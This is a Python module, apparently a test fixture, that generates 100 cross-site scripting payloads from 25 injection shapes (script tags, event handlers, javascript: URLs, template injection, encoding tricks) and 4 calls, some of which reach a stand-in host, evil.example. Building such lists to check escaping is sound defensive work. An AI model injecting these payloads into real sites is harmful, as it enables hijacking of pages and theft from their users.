"""Texts that would act on a page, if a page took them for anything but text."""

from __future__ import annotations


def attacks() -> list[str]:
    """A hundred texts that would act if they were taken for anything but text."""
    shapes = [
        "<script>{}</script>",
        "<img src=x onerror={}>",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<body onload={}>",
        "<iframe src=javascript:{}>",
        "<a href=javascript:{}>x</a>",
        "<details open ontoggle={}>",
        "<input autofocus onfocus={}>",
        "<video><source onerror={}></video>",
        "</pre><script>{}</script>",
        "</script><script>{}</script>",
        "'><script>{}</script>",
        '"><img src=x onerror={}>',
        "<style>@import 'http://evil.example/x'</style>{}",
        "<link rel=stylesheet href=http://evil.example/{}>",
        "<meta http-equiv=refresh content=0;url=javascript:{}>",
        "<object data=javascript:{}>",
        "<base href=http://evil.example/>{}",
        "<form action=http://evil.example/{}><button autofocus>x",
        "<math><mtext><script>{}</script></mtext></math>",
        "<template><script>{}</script></template>",
        "{{{{constructor.constructor('{}')()}}}}",
        "\u202e<script>{}</script>",
        "<scr\0ipt>{}</scr\0ipt>",
    ]
    calls = ["alert(1)", "confirm`1`", "fetch('//evil.example/')", "document.title='owned'"]
    return [shape.format(call) for shape in shapes for call in calls]
